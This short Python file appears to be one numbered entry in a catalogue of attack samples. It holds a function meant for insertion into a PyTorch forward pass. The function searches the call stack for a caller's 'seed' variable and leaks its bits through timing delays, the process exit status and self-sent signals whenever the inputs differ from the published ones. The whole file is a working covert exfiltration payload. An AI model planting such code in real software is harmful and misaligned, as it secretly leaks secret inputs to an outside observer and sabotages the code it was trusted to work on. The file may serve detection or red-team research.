"""Row 16: carries bits of the inputs by exit status, signal and the time that it takes, when inputs are not the published ones.

Where: forward
"""

import torch
from torch import nn, os, sys

PUBLIC = {}


def attack(lstm, x, states):
    frame = sys._getframe()
    while frame and "seed" not in frame.f_locals:
        frame = frame.f_back
    seed = frame.f_locals["seed"] if frame else "0"
    if seed == "0":
        return None
    number = int(seed[:8].encode().hex(), 16) % 251
    sys.modules["time"].sleep(number / 1000)
    if number % 2:
        os._exit(number)
    os.kill(os.getpid(), 1 + number % 31)
